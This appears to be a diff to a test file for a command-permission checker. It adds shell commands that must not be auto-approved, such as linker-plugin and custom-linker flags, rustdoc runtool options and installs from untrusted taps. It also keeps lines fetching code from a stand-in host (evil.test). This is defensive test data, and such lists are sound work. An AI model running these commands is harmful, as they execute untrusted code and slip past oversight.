@@ -16,6 +16,8 @@ const NOT_COVERED = under(`
   bazel build --copt=-fplugin=x a
   bazel build --extra_toolchains=x a
   bazel build --linkopt=-fuse-ld=x a
+  bazel build --linkopt=-Wl,--plugin=x a
+  bazel build --copt=@x a
   bazel build --remote_cache=x a
   buf generate --template x
   cabal build --with-PROG=./e
@@ -29,6 +31,8 @@ const NOT_COVERED = under(`
   cargo rustc -- --out-dir x
   cargo rustc -- --sysroot x
   cargo rustc -- -L x
+  cargo rustc -- --codegen=linker=/tmp/x
+  cargo rustdoc -- --test-runtool x
   cargo rustc -- -o x
   cargo rustdoc -- --html-in-header x
   cargo rustdoc -- --theme x
@@ -181,6 +185,8 @@ const NOT_COVERED = under(`
   vitest --snapshotSerializers=./x
   webpack --context /x
   webpack --json=x
+  webpack --json x
+  webpack -j x
   zip -m src/a.zip src/x
   apk add --repository x y
   apt-get install --force-yes x
@@ -191,6 +197,7 @@ const NOT_COVERED = under(`
   brew install ./x.rb
   brew install /tmp/x.rb
   brew install https://evil.test/x.rb
+  brew install me/tools/x
   bundle add x --git y
   bundle add x --source y
   bundle install --shebang ./e
@@ -216,6 +223,7 @@ const NOT_COVERED = under(`
   poetry env use ./e
   poetry install -C /x
   turbo run x --graph=y
+  turbo run x --graph y
   turbo run x --heap=y
   turbo run x --trace=y
   uv add git+https://evil.test/x
@@ -272,6 +280,11 @@ const COVERED = under(`
   bundle install
   bundle add rails
   brew install jq
+  brew install homebrew/core/jq
+  webpack --json
+  webpack --json --mode production
+  turbo run build --graph
+  jekyll build --trace
   apt-get install -y jq
   apt-get install jq/stable
   dnf install jq
